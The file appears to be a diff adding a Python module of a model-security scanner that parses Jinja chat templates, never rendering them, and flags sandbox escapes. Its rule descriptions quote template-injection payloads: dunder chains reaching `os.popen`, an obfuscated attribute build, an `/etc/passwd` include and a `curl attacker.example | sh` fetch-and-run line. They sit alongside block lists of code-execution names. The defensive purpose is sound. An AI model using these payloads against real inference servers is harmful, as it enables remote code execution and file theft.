@@ -1,0 +1,396 @@
+"""Chat templates: Jinja code that inference servers run on every request.
+
+Templates ship inside GGUF metadata (`tokenizer.chat_template*`), Hugging Face tokenizer configs
+(`chat_template`) and `.jinja` files. Servers render them with Jinja2, some historically without a
+sandbox (llama-cpp-python before 0.2.72, CVE-2024-34359), and sandbox escapes are found regularly, so
+a template that reaches into Python internals is code execution. Templates are parsed into Jinja's
+syntax tree and walked; they are never rendered.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterable, Iterator
+from dataclasses import dataclass, field
+from typing import Any
+
+from jinja2 import TemplateError, nodes
+from jinja2.ext import Extension, do, loopcontrols
+from jinja2.parser import Parser
+from jinja2.sandbox import SandboxedEnvironment
+
+from modelshield.core.findings import Finding
+from modelshield.core.handler import Context, Handler
+from modelshield.core.rules import Category, Rule, Severity
+from modelshield.core.sniff import classify_plain
+from modelshield.core.source import Source
+from modelshield.formats._json import json_object
+
+#: Real chat templates are a few kilobytes; a larger one is not parsed (fail closed).
+MAX_TEMPLATE_CHARS = 1_000_000
+#: Syntax-tree nodes visited per template.
+MAX_NODES = 200_000
+#: Findings per rule and template, so a template repeating one trick stays a short report.
+MAX_FINDINGS_PER_RULE = 10
+
+#: Free names that reach modules, builtins or functions which execute code or touch files.
+CODE_NAMES = frozenset(
+    {
+        "os",
+        "sys",
+        "subprocess",
+        "builtins",
+        "importlib",
+        "eval",
+        "exec",
+        "compile",
+        "open",
+        "getattr",
+        "setattr",
+        "globals",
+        "locals",
+        "vars",
+        "import",
+        "popen",
+        "system",
+    }
+)
+#: Attributes that only code-execution objects have.
+CODE_ATTRIBUTES = frozenset(
+    {"popen", "system", "check_output", "getoutput", "import_module", "spawnl", "execv", "execl", "load_module"}
+)
+#: Globals that are the usual first step of a sandbox escape (Jinja's own helpers, Flask's context);
+#: no chat template needs them.
+ESCAPE_HELPERS = frozenset(
+    {"lipsum", "cycler", "joiner", "self", "request", "config", "url_for", "get_flashed_messages"}
+)
+#: Filters whose argument (or `attribute=` keyword) names an attribute to fetch.
+ATTRIBUTE_FILTERS = frozenset(
+    {"attr", "map", "selectattr", "rejectattr", "sort", "groupby", "sum", "unique", "min", "max"}
+)
+_DUNDER = re.compile(r"__\w+__")
+
+_REMEDIATION = (
+    "Do not serve this model with the template. Replace the template with the publisher's official one "
+    "(compare with the base model's `tokenizer_config.json`), render templates only in "
+    "`jinja2.sandbox.ImmutableSandboxedEnvironment`, and keep Jinja2 and the inference server up to date."
+)
+_ATTACK = (
+    "Inference servers render the chat template on every request. llama-cpp-python rendered GGUF "
+    "templates without a sandbox until 0.2.72 (CVE-2024-34359, 'Llama Drama'), and escapes from Jinja's "
+    "sandbox are found every few years. From any object a template can reach, `__class__`, `__mro__`, "
+    "`__subclasses__()`, `__init__.__globals__` and `__builtins__` walk to `__import__('os')`."
+)
+
+PYTHON_INTERNALS = Rule(
+    id="TPL001",
+    title="Chat template reaches into Python internals",
+    severity=Severity.CRITICAL,
+    category=Category.TEMPLATE,
+    overview="The template accesses a dunder or private attribute (`__class__`, `__globals__`, "
+    "`__builtins__`, `__subclasses__`, name-mangled `_TemplateReference__context`...), or builds such a "
+    "name as a string. Chat templates format messages; they never need Python internals.",
+    attack=_ATTACK,
+    impact="Arbitrary code runs in the inference server with its privileges whenever a chat request is "
+    "formatted: model theft, data exfiltration, lateral movement.",
+    remediation=_REMEDIATION,
+    example="`{{ lipsum.__globals__['os'].popen('id').read() }}` or `{{ ''.__class__.__mro__[1].__subclasses__() }}`",
+)
+
+CODE_REFERENCE = Rule(
+    id="TPL002",
+    title="Chat template references code-execution functions or modules",
+    severity=Severity.CRITICAL,
+    category=Category.TEMPLATE,
+    overview="The template names `os`, `subprocess`, `eval`, `exec`, `open`, `getattr`, `__import__` or a "
+    "method such as `popen`/`system`, as a variable of its own or an attribute. Chat templates only read "
+    "`messages`, `tools` and a few flags.",
+    attack=_ATTACK + " Renderers that expose extra globals (or none of the sandbox) give such names direct meaning.",
+    impact="Arbitrary command execution in the inference server.",
+    remediation=_REMEDIATION,
+    example="`{{ os.popen('curl attacker.example | sh').read() }}`",
+)
+
+ESCAPE_HELPER = Rule(
+    id="TPL003",
+    title="Chat template uses a known sandbox-escape stepping stone",
+    severity=Severity.HIGH,
+    category=Category.TEMPLATE,
+    overview="The template references a global that published Jinja escapes start from: `lipsum`, "
+    "`cycler`, `joiner` (Jinja's default helpers, whose functions carry `__globals__`), `self`, or the "
+    "Flask context names `request`, `config`, `url_for`, `get_flashed_messages`. None of them has a use "
+    "in formatting a conversation.",
+    attack=_ATTACK + " Combined with a dunder access (reported separately as critical) these helpers "
+    "reach the `os` module in one expression.",
+    impact="A foothold for code execution in the server; on its own, a strong sign of a probing template.",
+    remediation=_REMEDIATION,
+    example="`{{ cycler.__init__.__globals__.os.popen('id').read() }}`",
+)
+
+DYNAMIC_ATTRIBUTE = Rule(
+    id="TPL004",
+    title="Chat template computes attribute names at render time",
+    severity=Severity.HIGH,
+    category=Category.TEMPLATE,
+    overview="An attribute name is computed (`x|attr(a ~ b)`, `map(attribute=name)`), so the template's "
+    "text does not show which attribute it reads.",
+    attack="Building `'__cla' ~ 'ss__'` at render time hides dunder access from text filters and reviewers; "
+    "`|attr` then fetches it. It is the standard obfuscation of template-injection payloads.",
+    impact="Possibly arbitrary code execution in the server, concealed from static review.",
+    remediation=_REMEDIATION,
+    example="`{{ (messages|attr('_' * 2 ~ 'class' ~ '_' * 2)) }}`",
+)
+
+TEMPLATE_LOAD = Rule(
+    id="TPL005",
+    title="Chat template loads other templates",
+    severity=Severity.MEDIUM,
+    category=Category.TEMPLATE,
+    overview="The template uses `{% include %}`, `{% import %}`, `{% from ... import %}` or "
+    "`{% extends %}`, which fetch another template through the renderer's loader.",
+    attack="Where the server's Jinja environment has a file-system loader, the template reads files of the "
+    "server's choosing into the prompt (and so into model output), and its behaviour depends on files "
+    "that were never reviewed with the model.",
+    impact="Disclosure of server files; behaviour that depends on content outside the model.",
+    remediation=_REMEDIATION,
+    example="`{% include '../../etc/passwd' %}`",
+)
+
+UNPARSEABLE = Rule(
+    id="TPL006",
+    title="Chat template could not be analysed",
+    severity=Severity.MEDIUM,
+    category=Category.TEMPLATE,
+    overview="The template does not parse as Jinja, is too large, or nests too deeply to analyse, so "
+    "nothing can be said about what it does when rendered.",
+    attack="Other renderers (llama.cpp's minja, older Jinja versions, custom extensions) accept syntax "
+    "that Jinja2 rejects; a payload written for them is invisible to an analyser that gives up.",
+    impact="Unknown: the template may execute code in a server that does render it.",
+    remediation="Do not serve the model with this template; replace it with the publisher's official one.",
+    example="`{% for m in messages %}{{ m.content }}` (no `endfor`), or a 50 MB template.",
+)
+
+RULES = (PYTHON_INTERNALS, CODE_REFERENCE, ESCAPE_HELPER, DYNAMIC_ATTRIBUTE, TEMPLATE_LOAD, UNPARSEABLE)
+
+
+class _GenerationTag(Extension):
+    """`{% generation %}...{% endgeneration %}`: Hugging Face's marker of assistant text in templates
+    trained with assistant masks; parsed for its body so real templates that use it are analysed."""
+
+    tags = {"generation"}  # noqa: RUF012 - Jinja's Extension API declares this as a class attribute
+
+    def parse(self, parser: Parser) -> list[nodes.Node]:
+        next(parser.stream)
+        return parser.parse_statements(("name:endgeneration",), drop_needle=True)
+
+
+#: Parses only; the environment's rendering is never used. Extensions mirror what transformers enables.
+_ENV = SandboxedEnvironment(extensions=[loopcontrols, do, _GenerationTag])
+
+
+@dataclass(frozen=True)
+class Problem:
+    rule: Rule
+    evidence: str
+
+
+@dataclass
+class Analysis:
+    """What a template does: its problems, and whether it reads `messages` as chat templates do."""
+
+    problems: list[Problem] = field(default_factory=list)
+    reads_messages: bool = False
+
+    @property
+    def parsed(self) -> bool:
+        return not any(p.rule is UNPARSEABLE for p in self.problems)
+
+
+def _const_string(node: nodes.Node | None) -> str | None:
+    return node.value if isinstance(node, nodes.Const) and isinstance(node.value, str) else None
+
+
+def _attribute_problem(name: str, line: int) -> Problem | None:
+    """The problem with fetching attribute `name`, if it is one."""
+    if name.startswith("_"):
+        return Problem(PYTHON_INTERNALS, f"line {line}: accesses attribute {name!r}")
+    if name in CODE_ATTRIBUTES:
+        return Problem(CODE_REFERENCE, f"line {line}: calls {name!r}")
+    return None
+
+
+def _filter_problems(node: nodes.Filter, line: int) -> Iterator[Problem]:
+    """Attribute names passed to `attr`, `map(attribute=...)` and similar filters."""
+    if node.name not in ATTRIBUTE_FILTERS:
+        return
+    arguments = [kw.value for kw in node.kwargs if kw.key == "attribute"]
+    if node.name == "attr":
+        arguments += node.args[:1]
+    for argument in arguments:
+        name = _const_string(argument)
+        if name is None:
+            yield Problem(DYNAMIC_ATTRIBUTE, f"line {line}: the |{node.name} filter fetches a computed attribute")
+        else:
+            problem = _attribute_problem(name.split(".")[-1], line)
+            if problem is not None:
+                yield problem
+
+
+def _node_problems(node: nodes.Node) -> Iterator[Problem]:
+    line = node.lineno
+    if isinstance(node, nodes.Getattr):
+        problem = _attribute_problem(node.attr, line)
+        if problem is not None:
+            yield problem
+    elif isinstance(node, nodes.Const) and isinstance(node.value, str):
+        match = _DUNDER.search(node.value)
+        if match:
+            yield Problem(PYTHON_INTERNALS, f"line {line}: string {match.group()!r} names a Python internal")
+    elif isinstance(node, nodes.Filter):
+        yield from _filter_problems(node, line)
+    elif isinstance(node, (nodes.Include, nodes.Import, nodes.FromImport, nodes.Extends)):
+        target = _const_string(node.template)
+        shown = repr(target) if target is not None else "a computed name"
+        yield Problem(TEMPLATE_LOAD, f"line {line}: {type(node).__name__.lower()} of template {shown}")
+
+
+def analyse(text: str) -> Analysis:
+    """Parse `text` as Jinja (never render it) and report what it reaches for."""
+    result = Analysis()
+    if len(text) > MAX_TEMPLATE_CHARS:
+        result.problems.append(Problem(UNPARSEABLE, f"template of {len(text)} characters exceeds {MAX_TEMPLATE_CHARS}"))
+        return result
+    try:
+        tree = _ENV.parse(text)
+    except TemplateError as exc:
+        result.problems.append(Problem(UNPARSEABLE, f"not valid Jinja: {exc}"))
+        return result
+    except RecursionError:
+        result.problems.append(Problem(UNPARSEABLE, "nested too deeply to parse"))
+        return result
+    assigned: set[str] = set()
+    free: list[nodes.Name] = []
+    stack: list[nodes.Node] = [tree]
+    visited = 0
+    while stack:
+        node = stack.pop()
+        visited += 1
+        if visited > MAX_NODES:
+            result.problems.append(Problem(UNPARSEABLE, f"more than {MAX_NODES} syntax nodes; analysis stopped"))
+            break
+        if isinstance(node, nodes.Name):
+            if node.ctx == "load":
+                free.append(node)
+            else:
+                assigned.add(node.name)
+        result.problems.extend(_node_problems(node))
+        stack.extend(node.iter_child_nodes())
+    # `{% set messages = messages[1:] %}` still reads the caller's messages, so assignment is ignored here.
+    result.reads_messages = any(name.name == "messages" for name in free)
+    for name in free:
+        if name.name in assigned:
+            continue
+        if name.name in CODE_NAMES or _DUNDER.fullmatch(name.name):
+            result.problems.append(Problem(CODE_REFERENCE, f"line {name.lineno}: uses {name.name!r}"))
+        elif name.name in ESCAPE_HELPERS:
+            result.problems.append(Problem(ESCAPE_HELPER, f"line {name.lineno}: uses {name.name!r}"))
+    result.problems.sort(key=lambda p: p.rule.id)
+    return result
+
+
+def template_findings(ctx: Context, text: str, what: str, *, member: str | None = None) -> Iterator[Finding]:
+    """Findings for one template found in a file; `what` names it in evidence ('chat_template')."""
+    counts: dict[str, int] = {}
+    seen: set[Problem] = set()
+    for problem in analyse(text).problems:
+        if problem in seen:
+            continue
+        seen.add(problem)
+        count = counts[problem.rule.id] = counts.get(problem.rule.id, 0) + 1
+        if count <= MAX_FINDINGS_PER_RULE:
+            yield ctx.finding(problem.rule, f"{what}: {problem.evidence}", member=member, template=what)
+    for rule_id, count in counts.items():
+        if count > MAX_FINDINGS_PER_RULE:
+            rule = next(r for r in RULES if r.id == rule_id)
+            yield ctx.finding(rule, f"{what}: {count - MAX_FINDINGS_PER_RULE} more not listed", member=member)
+
+
+# -- handlers -----------------------------------------------------------------------------------------
+
+
+def _text(source: Source) -> str | None:
+    """The whole source as UTF-8 text with Jinja markup, if it is small enough to be a template."""
+    if source.size > MAX_TEMPLATE_CHARS * 4 or not source.size:
+        return None
+    if classify_plain(source.head()) != "text":
+        return None  # binary formats (GGUF metadata holds templates too) are their own handlers'
+    head = source.head(64).lstrip(b"\xef\xbb\xbf \t\r\n")
+    if head[:1] in (b"{", b"[") and not head.startswith((b"{%", b"{{", b"{#")):
+        return None  # JSON (a tokenizer config holding a template is the other handler's)
+    try:
+        text = source.read_at(0, source.size).decode("utf-8-sig")
+    except UnicodeDecodeError:
+        return None
+    return text if "\0" not in text and ("{%" in text or "{{" in text) else None
+
+
+class ChatTemplateHandler(Handler):
+    """A Jinja chat template file (`chat_template.jinja`, `--chat-template-file`).
+
+    Content decides: the text must parse as Jinja and read `messages` as every chat template does, so
+    web-page templates and other text are not claimed. A template that reaches into Python internals is
+    claimed whatever it reads, and a `.jinja` file that is neither is reported as unrecognised.
+    """
+
+    name = "chat-template"
+    label = "Jinja chat template"
+    extensions = frozenset({".jinja"})
+    rules = RULES
+
+    def detect(self, source: Source) -> bool:
+        text = _text(source)
+        if text is None:
+            return False
+        analysis = analyse(text)
+        code = {PYTHON_INTERNALS, CODE_REFERENCE}
+        return analysis.parsed and (analysis.reads_messages or any(p.rule in code for p in analysis.problems))
+
+    def scan(self, source: Source, ctx: Context) -> Iterator[Finding]:
+        text = _text(source)
+        assert text is not None
+        yield from template_findings(ctx, text, "template")
+
+
+def config_templates(config: dict[str, Any]) -> Iterable[tuple[str, Any]]:
+    """(name, template) pairs of a tokenizer config's `chat_template`: a string, or a list of
+    `{"name", "template"}` objects (named variants such as `tool_use` and `rag`)."""
+    value = config.get("chat_template")
+    if isinstance(value, list):
+        for index, entry in enumerate(value):
+            if isinstance(entry, dict):
+                yield f"chat_template[{entry.get('name', index)!s}]", entry.get("template")
+            else:
+                yield f"chat_template[{index}]", entry
+    else:
+        yield "chat_template", value
+
+
+class TokenizerConfigHandler(Handler):
+    """Hugging Face `tokenizer_config.json` / `chat_template.json`: JSON with a `chat_template`."""
+
+    name = "hf-chat-template"
+    label = "Hugging Face tokenizer config with a chat template"
+    rules = RULES
+
+    def detect(self, source: Source) -> bool:
+        config = json_object(source, b'"chat_template"')
+        return config is not None and "chat_template" in config
+
+    def scan(self, source: Source, ctx: Context) -> Iterator[Finding]:
+        config = json_object(source, b'"chat_template"')
+        assert config is not None
+        for what, template in config_templates(config):
+            if isinstance(template, str):
+                yield from template_findings(ctx, template, what)
+            elif template is not None:
+                yield ctx.finding(UNPARSEABLE, f"{what} is a JSON {type(template).__name__}, not a template string")
